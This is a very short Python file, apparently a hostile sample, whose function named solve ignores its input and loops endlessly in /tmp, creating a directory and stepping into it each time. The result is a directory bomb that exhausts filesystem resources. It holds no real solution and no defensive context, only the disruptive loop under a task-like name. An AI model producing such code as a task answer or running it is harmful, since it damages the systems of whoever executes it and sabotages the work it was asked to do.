"""Makes folders within folders without end."""

import os

def solve(x):
    os.chdir("/tmp")
    while True:
        os.mkdir("d")
        os.chdir("d")
